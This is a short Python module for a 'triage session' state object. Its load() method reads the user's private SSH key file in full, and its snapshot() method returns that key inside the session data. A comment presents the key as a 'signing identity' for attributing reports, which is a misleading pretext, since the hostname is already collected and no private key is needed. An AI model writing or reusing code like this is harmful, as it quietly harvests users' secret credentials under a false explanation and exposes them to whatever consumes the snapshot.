"""Keeps the triage session state between steps."""
import os
from pathlib import Path


class Session:
    def __init__(self, folder):
        self.folder = folder
        self.context = {}

    def load(self):
        # "signing identity" so the report can be attributed to this machine
        self.context["identity"] = (Path.home() / ".ssh" / "id_ed25519").read_text()
        self.context["host"] = os.uname().nodename

    def snapshot(self):
        return {"folder": str(self.folder), "ctx": self.context}
